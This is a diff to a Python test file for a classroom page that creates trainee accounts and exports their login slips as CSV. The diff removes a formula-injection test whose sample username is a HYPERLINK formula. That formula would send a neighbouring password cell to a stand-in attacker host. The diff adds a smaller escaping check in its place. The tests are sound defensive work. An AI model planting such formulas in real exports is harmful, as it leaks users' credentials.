@@ -1,7 +1,6 @@
 """The classroom page and its command."""
 
 import base64
-import csv
 import re
 from datetime import timedelta
 
@@ -28,7 +27,7 @@ def add(office, **fields):
 
 
 def test_forty_accounts_and_their_slips_in_one_step(office, api):
-    names = "\n".join(f"学员{n:02}" for n in range(40))
+    names = "\n".join(["＝1+1", *(f"学员{n:02}" for n in range(1, 40))])
 
     page = add(office, names=names, role="102").content.decode()
 
@@ -38,7 +37,7 @@ def test_forty_accounts_and_their_slips_in_one_step(office, api):
     body = api.post("/users/login", {"username": "h51901-40", "password": passwords[-1]}).json()
     assert (body["userInfo"]["nickname"], body["userInfo"]["roleid"]) == ("学员39", "102")
     table = base64.b64decode(re.search(r"data:text/csv;base64,([^\"]+)", page)[1]).decode("utf-8-sig")
-    assert f"学员39,,h51901-40,{passwords[-1]}" in table
+    assert f"学员39,,h51901-40,{passwords[-1]}" in table and "'＝1+1,,h51901-01" in table  # no formula
 
 
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
@@ -119,23 +118,6 @@ def test_two_clicks_at_once_make_one_class(roles):
 
     assert sorted(type(outcome).__name__ for outcome in made) == ["ClassAccountsRefused", "list"]
     assert User.objects.count() == 20
-
-
-def test_runs_no_formula_that_a_trainee_chose_as_a_name(office, api):
-    password = add(office, names="谭鹏").context["slips"][0].password
-    body = api.post("/users/login", {"username": "h51901-01", "password": password}).json()
-    names = {"username": '=HYPERLINK("http://evil.example/?"&D3)', "nickname": "＝1+1"}
-    changed = api.post(
-        "/users/updateUser", {"unid": body["userInfo"]["unid"]} | names, headers={"authorization": body["token"]}
-    )
-    assert changed.json()["state"]
-
-    page = office.post(PAGE, {"do": "reset", "class_name": "H51901", "sure": "1"}).content.decode()
-
-    table = base64.b64decode(re.search(r"data:text/csv;base64,([^\"]+)", page)[1]).decode("utf-8-sig")
-    _, row = csv.reader(table.splitlines())
-    assert row[0] == "'＝1+1" and row[2] == "'" + names["username"]
-    assert not any(cell.startswith(tuple("=+-@＝＋－＠")) for cell in row)
 
 
 def test_puts_the_demo_back_and_clears_the_shop_only_if_asked(office, api):
